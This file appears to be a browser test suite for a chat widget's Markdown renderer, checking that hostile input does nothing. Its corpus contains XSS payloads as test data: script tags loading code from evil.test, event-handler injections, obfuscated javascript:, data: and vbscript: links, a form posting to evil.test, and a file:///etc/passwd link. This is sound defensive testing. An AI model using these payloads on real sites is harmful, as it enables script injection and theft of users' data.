"""Markdown in a real browser: that it reads well, and that hostile text does nothing."""

from __future__ import annotations

import html
import json
import re
from pathlib import Path
from typing import Any

import pytest

from tests.browser.conftest import ReplyPage
from tests.support.thorough import some_of, thorough

pytestmark = pytest.mark.browser


@pytest.fixture
def reply_page(same_reply_page: ReplyPage) -> ReplyPage:
    return same_reply_page


HTML = {
    "script": "Before <script>window.pwned = 1</script> after\n\n<script src=//evil.test/a.js>\n",
    "event handlers": (
        "<img src=x onerror=window.pwned=1> <b onmouseover='pwned=2'>bold</b>\n"
        "<details open ontoggle=pwned=3><body onload=pwned=4>\n"
    ),
    "svg": "<svg onload=pwned=1><script>pwned=2</script></svg>\n\n<svg/onload=alert(1)>",
    "iframe": "<iframe src='javascript:parent.pwned=1'></iframe><iframe srcdoc='<script>'>x",
    "embedding": "<object data=evil.swf></object><embed src=a.swf><link rel=stylesheet href=b.css>",
    "style": "<style>@import 'https://evil.test/a.css';</style><base href=https://evil.test/>",
    "form": "<form action=https://evil.test/><input autofocus onfocus=pwned=1><button>go</button>",
    "meta": "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "comment": "<!-- secret --> <![CDATA[ section ]]> <?php echo ?>",
    "inside code": "`<script>pwned=1</script>`\n\n```html\n<img src=x onerror=pwned=1>\n```\n",
    "inside a table": "| <script>a</script> | <img onerror=pwned=1> |\n|---|---|\n| x | y |\n",
    "inside a fence's name": '```"><script>pwned=1</script>\ncode\n```\n\n```js onload=x\n1\n```\n',
}
LINKS = {
    "javascript": "[click](javascript:alert(1)) and [two](JaVaScRiPt:alert`2`)",
    "data": "[click](data:text/html,<script>alert(1)</script>) [b](data:text/html;base64,PHN2Zz4=)",
    "vbscript": "[click](vbscript:msgbox(1)) [b](VBScript:msgbox)",
    "entities": "[a](javascript&#58;alert(1)) [b](&#106;avascript:alert(2)) [c](data&colon;x)",
    "percent": "[a](javascript%3Aalert(1)) [b](%6aavascript:alert(2))",
    "tab": "[a](java\tscript:alert(1)) [b](\tjavascript:alert(2)) [c](jav&#x09;ascript:alert(3))",
    "newline": "[a](java\nscript:alert(1))\n\n[b](\njavascript:alert(2))",
    "control": "[a](\x01javascript:alert(1)) [b](java\x00script:alert(2)) [c](\x1fdata:x)",
    "other schemes": "[a](file:///etc/passwd) [b](blob:abc) [c](filesystem:x) [d](ftp://h/x)",
    "angle brackets": "[a](<javascript:alert(1)>) <javascript:alert(2)> [b](< data:x>)",
    "titles": '[a](javascript:alert(1) "title") [b](https://ok.test/ "on=\'x\' onclick=pwned=1")',
    "quotes": "[a](https://ok.test/\"onmouseover=\"pwned=1) [b](https://ok.test/'onclick='pwned=2)",
    "nested": "[a [b](javascript:x(1)) c](javascript:x(2)) [![i](javascript:x)](vbscript:y)",
    "reference": "[a][ref] [ref]\n\n[ref]: javascript:alert(1)\n[other]: data:text/html,x\n",
    "bare": 'https://ok.test/<script>alert(1)</script> https://ok.test/"onclick=pwned=1 http://',
    "no end": "[a](javascript:alert(1)\n\nmore text [b](https://ok.test",
}
IMAGES = {
    "inline": "![alt words](https://evil.test/a.png?secret=1) ![](//evil.test/b.png)",
    "reference": "![alt][pic] ![pic]\n\n[pic]: https://evil.test/c.png\n",
    "data": "![a](data:image/svg+xml,<svg onload=pwned=1>) ![b](javascript:pwned=1)",
    "no end": "![never closed](https://evil.test/d.png",
}
UNFINISHED = {
    "fence": "text\n\n```python\nprint('<b>')\n",
    "fence alone": "```\nalpha\n``\nbeta",
    "tildes": "~~~js\nalpha\n~~~\nbeta ~~gamma",
    "inline": "an `open code and **open bold and _open emphasis\n\nnext *para",
    "formula": "alpha $$beta\n\ngamma \\[delta\n\nepsilon \\(zeta\n\neta $theta iota\n\nkappa",
    "brackets": "alpha [beta\n\n![gamma\n\n[delta]( epsilon\n\nzeta ](eta",
    "table": "| alpha | beta\n| - | -\n| gamma\ndelta\n\n| epsilon *zeta | eta |\n",
    "surrogates": "smile \U0001f600 flag \U0001f1e9\U0001f1ea \U0001f468\u200d\U0001f469 end",
    "lone surrogates": "alpha \ud83d beta \ude00 gamma \ud83d",
    "deep": ">" * 300 + " alpha\n\n" + "*_" * 300 + "beta\n\n" + "- " * 60 + "gamma\n",
    "deep lists": "".join(f"{'  ' * depth}- item{depth}\n" for depth in range(60)),
    "long line": "alpha " + "x" * 20_000 + " omega",
    "control": "alpha \x00 beta \x1b[31m gamma \u202e delta \ufeff epsilon \uffff zeta",
}
PLAIN = {
    "names": "Use snake_case_name, __init__ and a_b_ or x_1, but *this* is _emphasis_.\n",
    "sums": "2 * 3 * 4 = 24, 2*3, a < b, x[0][1], [1, 2, 3], f(x)[i](y)\n",
    "money": "It costs $5 or $10, ~3 and ~~4~~, C:\\path\\name, 50% & more; #1 and # 2.\n",
    "formulas": "$$E = mc^2$$\n\nHere $a_1 + b_1$ and \\(x_2\\).\n\n\\[ \\frac{a}{b} \\]\n\n.\n",
    "lists": "1. one\n2. two\n   - inner\n   - more\n3. three\n\n- [x] done\n- [ ] open\n",
    "numbers": "2.1. Overview\n2.2. Details\n\n1986. A year\n\n10) paren\n",
    "table": "| Name | Value |\n|:-----|------:|\n| alpha | **1** |\n| beta | `2` |\n\nAfter.\n",
    "code": "Indented:\n\n    x = 1\n    y = 2\n\n```\nplain\n\n  more\n```\nThen ``a ` b``.\n",
    "quotes": "> one\n> two\n>\n> > three\n\nafter\n\n---\n\n***\n",
    "links": "See https://ok.test/a_(b)?c=d_e. And (https://ok.test/x), [w](https://ok.test/q_(r)_s).\n",
}
GROUPS = {
    "html": HTML, "links": LINKS, "images": IMAGES, "unfinished": UNFINISHED, "plain": PLAIN,
}  # fmt: skip
CORPUS = [
    pytest.param(source, id=f"{group}-{name}")
    for group, sources in GROUPS.items()
    for name, source in sources.items()
]

STREAM = """
    const source = JSON.parse(given.source);
    const random = (() => {
        let state = given.seed;
        return () => ((state = (state * 48271) % 2147483647) / 2147483647);
    })();
    await openWidget();
    for (let at = 0; at < source.length; ) {
        const size = given.how === "whole" ? source.length
            : given.how === "characters" ? 1 : 1 + Math.floor(random() * 7);
        model.say(source.slice(at, at + size));
        at += size;
    }
    model.receive("phase", "done");
    const root = view.text;
    root.normalize();
    const all = [...root.querySelectorAll("*")];
    const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
    const texts = [root.textContent];
    while (walker.nextNode()) texts.push(walker.currentNode.data);
    const depth = (node) => (node === root ? 0 : 1 + depth(node.parentElement));
    return {
        depth: Math.max(0, ...all.map(depth)),
        html: root.innerHTML,
        tags: [...new Set(all.map((node) => node.tagName.toLowerCase()))],
        attributes: [...new Set(all.flatMap((node) => node.getAttributeNames()))],
        hrefs: [...root.querySelectorAll("[href]")].map((node) => node.getAttribute("href")),
        opened: [...root.querySelectorAll("a[href]")].map((node) => node.protocol),
        shown: texts.join(" ") + " " + all.flatMap(
            (node) => ["href", "title"].map((name) => node.getAttribute(name) ?? "")).join(" "),
        markers: [...root.querySelectorAll("ol")].flatMap(
            (list) => [...list.children].map((_, index) => list.start + index)),
        pwned: window.pwned,
    };
"""
TAGS = {
    "p", "h1", "h2", "h3", "h4", "h5", "h6", "pre", "code", "em", "strong", "del", "a", "span",
    "br", "hr", "ul", "ol", "li", "input", "blockquote", "sub", "sup", "kbd",
    "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
ATTRIBUTES = {
    "align", "class", "href", "target", "rel", "title", "start", "type", "disabled", "checked",
}  # fmt: skip
DEEPEST = 64
"""Elements in one another; browsers themselves stop at 512 when they read HTML."""
FENCE_NAMES = {"python", "html", "js"}


def stream(page: ReplyPage, source: str, how: str = "whole", seed: int = 1) -> dict[str, Any]:
    """Stream the source in pieces and say what came of it. Lone surrogates travel as JSON."""
    return page.run(STREAM, {"source": json.dumps(source), "how": how, "seed": seed})


def decoded(entity: re.Match[str]) -> str:
    return html.unescape(entity[0])


def words(text: str) -> set[str]:
    return set(re.findall(r"[A-Za-z0-9]+", text))


@pytest.mark.parametrize("source", some_of(CORPUS, 2))
def test_hostile_text_does_nothing(reply_page: ReplyPage, source: str) -> None:
    """A text in any pieces makes only harmless elements, requests nothing and loses nothing."""
    whole = stream(reply_page, source)
    cuts = [stream(reply_page, source, "characters")]
    cuts += [stream(reply_page, source, "random", seed) for seed in (7, 77, 777)]
    assert set(whole["tags"]) <= TAGS
    assert whole["depth"] <= DEEPEST
    assert set(whole["attributes"]) <= ATTRIBUTES
    # On a blank page a relative address has no protocol.
    assert set(whole["opened"]) <= {"http:", "https:", "mailto:", ":"}
    assert not [href for href in whole["hrefs"] if re.match(r"[^/?#]*:", href) and not re.match(
        r"(https?|mailto):", href)]  # fmt: skip
    assert whole["pwned"] is None
    shown = words(whole["shown"]) | {str(marker) for marker in whole["markers"]}
    # The name after a fence chooses the colours; the x of "[x]" ticks its box.
    # Entities are the characters that they name.
    assert words(re.sub(r"&#?\w+;", decoded, source)) - shown - FENCE_NAMES - {"x"} == set()
    assert [cut["html"] for cut in cuts] == [whole["html"]] * len(cuts)
    # Anything the page were to fetch or run would by now be under way.
    reply_page.page.wait_for_function("new Promise((done) => setTimeout(() => done(true), 0))")
    assert reply_page.requests == []
    assert reply_page.dialogs == []


@pytest.mark.parametrize("name", LINKS)
def test_links_open_only_what_is_safe(reply_page: ReplyPage, name: str) -> None:
    """No link of the corpus leads anywhere but to the one harmless host."""
    hrefs = stream(reply_page, LINKS[name])["hrefs"]
    assert [href for href in hrefs if not href.startswith("https://ok.test")] == []


@pytest.mark.parametrize(
    ("source", "href"),
    [
        ("[a](https://ok.test/x)", "https://ok.test/x"),
        ("[a](HTTP://ok.test)", "HTTP://ok.test"),
        ("[a](mailto:me@ok.test)", "mailto:me@ok.test"),
        ("[a](#part)", "#part"),
        ("[a](docs/page.md?x=1:2)", "docs/page.md?x=1:2"),
        ("[a](/root:x)", "/root:x"),
        ('[a](https://ok.test/ "A title")', "https://ok.test/"),
        ("[a](https://ok.test/w_(x)_y)", "https://ok.test/w_(x)_y"),
        ("see https://ok.test/a_b.", "https://ok.test/a_b"),
        ("(see https://ok.test/a)", "https://ok.test/a"),
    ],
)
def test_good_links_work(reply_page: ReplyPage, source: str, href: str) -> None:
    """A link that is safe can be followed, in a tab of its own that knows nothing of this one."""
    assert stream(reply_page, source)["hrefs"] == [href]
    link = reply_page.page.locator(".chatnb-text a[href]").last
    assert link.get_attribute("target") == "_blank"
    assert link.get_attribute("rel") == "noopener noreferrer"


@pytest.mark.parametrize(
    ("source", "elements"),
    [
        ("snake_case_name", "<p>snake_case_name</p>"),
        ("a _b_ c", "<p>a <em>b</em> c</p>"),
        ("_a_b_", "<p><em>a_b</em></p>"),
        ("**a** *b* ~~c~~ `d`", "<p><strong>a</strong> <em>b</em> <del>c</del> <code>d</code></p>"),
        ("x[0] and [1, 2]", None),
        ("5 *stars", None),
        ("[a](javascript:b)", None),
        ("# One\n\nTwo", "<h1>One</h1><p>Two</p>"),
        ("3. c\n4. d", '<ol start="3"><li>c</li><li>d</li></ol>'),
        ("> q", "<blockquote><p>q</p></blockquote>"),
        ("```\na\n```", "<pre><code>a</code></pre>"),
        (
            "| a |\n|---|\n| b |\n",
            "<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>",
        ),
    ],
)
def test_markdown_becomes_elements(
    reply_page: ReplyPage, source: str, elements: str | None
) -> None:
    """Markdown that replies use becomes the elements that it means; what is none stays text."""
    assert not elements or stream(reply_page, source)["html"] == elements
    if elements is None:
        stream(reply_page, source)
        assert reply_page.text() == source


@pytest.mark.parametrize(
    "formula", ["$a_1 b_2$", "$$a_1\\\\b$$", "\\(a*b*c\\)", "\\[\\frac{a}{b}\\]"]
)
def test_formulas_keep_their_source(reply_page: ReplyPage, formula: str) -> None:
    """A formula is shown as it was written, delimiters and all, and ends where it ends."""
    stream(reply_page, f"Before {formula} after\n\nNext")
    assert (
        reply_page.run("return view.text.querySelector('.chatnb-formula').textContent") == formula
    )
    assert reply_page.run("return view.text.lastChild.outerHTML") == "<p>Next</p>"


def test_images_are_links(reply_page: ReplyPage) -> None:
    """An image is its alternative text and a link, and nothing is fetched."""
    shown = stream(reply_page, "![A cat](https://evil.test/cat.png)")["html"]
    assert shown == (
        '<p><a href="https://evil.test/cat.png" target="_blank" '
        'rel="noopener noreferrer">A cat</a></p>'
    )


def test_an_image_in_a_link_is_the_text_of_the_link(reply_page: ReplyPage) -> None:
    """A badge leads to where it was to lead, and nothing is fetched."""
    shown = stream(reply_page, "[![badge](https://evil.test/badge.svg)](https://ok.test/page)")
    assert (shown["hrefs"], shown["shown"].split()[0]) == (["https://ok.test/page"], "badge")
    assert reply_page.requests == []


@pytest.mark.parametrize(
    "worst", ["`", "_a", *thorough([">", "*", "[", "$$", "[a](", "- ", "http://a", "a@", "www."])]
)
def test_no_line_is_too_long(reply_page: ReplyPage, worst: str) -> None:
    """A hundred thousand characters of the worst kinds come to an end, before the page gives up."""
    reply_page.run(
        """
        await openWidget();
        model.say(given.repeat(Math.ceil(100000 / given.length)));
        model.say("\\n\\nThe end.");
        model.receive("phase", "done");
        """,
        worst,
    )
    assert reply_page.text().endswith("The end.")


# What is between the marks is repeated.
REPEATED = [
    "http://a…)…\n", "http://a…?…\n", "…http://a) …", "[a](…x…)\n", "[a](x…  …y)\n",
    "[a](…()…)\n", "![a](…()…)\n", '[a](x "…"…)\n', "…[…", "…[a](b) …", "…[a…", "…![…", "…[*…",
    "…`…", "`a…`…", "…`a` …", "…`a\n…", "```…x…\n", "```…`…", "```\n…x…", "```\n…x\n…",
    "```\na\n…`…", "```\na\n…  …b\n", "…*…", "…*a …", "…**a …", "…*_…", "…_…", "…a_…", "…~~a …",
    "…- …", "…-…", "…1…", "…>…", "…> a\n…", "…> > a\n…", "…|…", "|a|\n|-|\n…|a|\n…", "…|a…\n",
    "|a|\n|…-|…\n", "…<a …", "<br…  …x\n", "…<!-- …", "…$a\n…", "$$\n…x…", "…\\(…", "…\\…",
    "…- a\n…", "…    a\n…", "…a…", "a…  …b", "…\n…", "…# a\n…", "…&lt;…",
]  # fmt: skip


@pytest.mark.parametrize(
    ("patterns", "length", "size"),
    [
        (REPEATED[::9], 4_800, 16),
        *thorough(
            [
                (REPEATED, 16_000, 16_000),
                ([each for each in REPEATED if each not in REPEATED[::9]], 4_800, 16),
            ]
        ),
    ],
    ids=["some in pieces", "whole", "others in pieces"],
)
def test_work_is_linear(reply_page: ReplyPage, patterns: list[str], length: int, size: int) -> None:
    """A long text takes about as long as 8 of an eighth of its length, and not 8 times as long."""
    slow = reply_page.run(
        """
        const [patterns, length, size] = given;
        const time = async (pattern, times, length) => {
            const [before, repeated, after] = pattern.split("…");
            const text = before + repeated.repeat(length / repeated.length) + after;
            let spent = 0;
            for (let count = 0; count < times; count += 1) {
                await openWidget();
                const started = performance.now();
                for (let at = 0; at < text.length; at += size) model.say(text.slice(at, at + size));
                model.receive("phase", "done");
                spent += performance.now() - started;
                document.body.replaceChildren();
            }
            return spent;
        };
        for (const pattern of patterns) {
            let [short, long] = [0, await time(pattern, 1, length)];
            for (let tries = 0; tries < 5 && long > 3 * short + 20; tries += 1) {
                short = Math.max(short, await time(pattern, 8, length / 8));
                if (long > 3 * short + 20) long = Math.min(long, await time(pattern, 1, length));
            }
            if (long > 3 * short + 20) return [pattern, short, long];
        }
        return null;
        """,
        [patterns, length, size],
    )
    assert slow is None


def test_pairs_are_never_torn(reply_page: ReplyPage) -> None:
    """A character cut in half between two deltas is not shown before it is whole."""
    reply_page.open()
    torn = reply_page.run("""
        const torn = [];
        for (const piece of ["smile ", "\ud83d", "\ude00", "\ud83d", "\ude00 ", "end"]) {
            model.say(piece);
            if (!view.text.textContent.isWellFormed()) torn.push(view.text.textContent);
        }
        model.receive("phase", "done");
        return torn.length;
    """)
    assert torn == 0
    assert reply_page.text() == "smile \U0001f600\U0001f600 end"


# Formulas.

FORMULAS = json.loads((Path(__file__).parents[1] / "markdown" / "formulas.json").read_text("utf-8"))


@pytest.mark.parametrize("how", ["whole", "characters"])
def test_formulas_are_those_of_the_finished_reply(reply_page: ReplyPage, how: str) -> None:
    """The browser finds the formulas that Python finds, however the text is cut."""
    for case in FORMULAS:
        stream(reply_page, case["text"], how)
        shown = reply_page.run("""
            const formulas = [...view.text.querySelectorAll(".chatnb-formula")];
            return formulas.map((node) => node.textContent);
        """)
        bare = [re.sub(r"^(\$\$?|\\\\?[(\[])(.*?)(\$\$?|\\\\?[)\]])$", r"\2", text, flags=re.S)
                for text in shown]  # fmt: skip
        assert bare == case["formulas"], case["text"]
